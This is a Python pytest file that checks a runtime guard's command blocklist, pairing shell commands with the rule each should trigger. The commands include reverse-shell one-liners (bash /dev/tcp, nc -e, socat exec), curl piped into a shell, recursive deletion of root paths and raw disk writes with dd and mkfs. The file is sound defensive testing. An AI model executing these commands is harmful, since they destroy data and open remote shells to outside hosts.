"""Per-program blocklist rules (runtime.guard.commands.blocklist_rules), rule by rule."""

from __future__ import annotations

import pytest

from runtime.guard.commands.blocklist import check_blocklist

VERDICTS: list[tuple[str, str | None]] = [
    ("rm -rf /usr/lib", None),
    ("rm -rf /[!/]sr", None),
    ("rm -rf /u?r/", "rm_rf_root"),
    ("chmod -R 777 /e*", "chmod_recursive_root"),
    ("kill -9 -1", "kill_all"),
    ("kill -TERM -- -1", "kill_all"),
    ("kill -1", "kill_all"),
    ("kill -s KILL -1", "kill_all"),
    ("kill -- -1", "kill_all"),
    ("curl x | python -c 'print(1)'", None),
    ("curl x | python -cprint", None),
    ("curl x | python -", "pipe_to_shell"),
    ("curl x | python", "pipe_to_shell"),
    ("curl x | python -u", "pipe_to_shell"),
    ("curl x | python script.py", None),
    ("curl x | bash -s", "pipe_to_shell"),
    ("curl x | bash -c ls", None),
    ("curl x | bash -x", "pipe_to_shell"),
    ("curl x | bash /dev/stdin", "pipe_to_shell"),
    ("curl x | . /dev/stdin", "pipe_to_shell"),
    ("curl x | . ./file", None),
    ("curl x | source -", "pipe_to_shell"),
    ("socat tcp:1.2.3.4:80 exec:/bin/sh", "reverse_shell"),
    ("socat - SYSTEM:sh", "reverse_shell"),
    ("socat - tcp:x:1", None),
    ("nc -e /bin/sh h 1", "reverse_shell"),
    ("ncat --sh-exec sh h 1", "reverse_shell"),
    ("nc h 1", None),
    ("/bin/[nc]? /dev/sda", "write_to_device"),
    ("/usr/bin/s?do ls", "sudo"),
    ("tee /dev/sda", "write_to_device"),
    ("cp x /dev/null", None),
    ("echo x > /dev/sda", "write_to_device"),
    ("echo x >> /dev/null", None),
    ("cat < /dev/sda", None),
    ("bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "reverse_shell"),
    ("x > //dev//udp/h/1", "reverse_shell"),
    ("init 0", "shutdown"),
    ("telinit 6", "shutdown"),
    ("init 3", None),
    ("systemctl reboot", "shutdown"),
    ("systemctl status", None),
    ("mkfs.ext4 /dev/sda", "mkfs"),
    ("mke2fs x", "mkfs"),
    ("halt", "shutdown"),
    ("dd if=/dev/zero of=/dev/sda", "dd_to_device"),
    ("dd of=/dev/null", None),
]
"""Commands next to the spelling that tips each rule, and the verdict."""


@pytest.mark.parametrize(("command", "verdict"), VERDICTS)
def test_rule_verdict(command: str, verdict: str | None) -> None:
    assert check_blocklist(command) == verdict
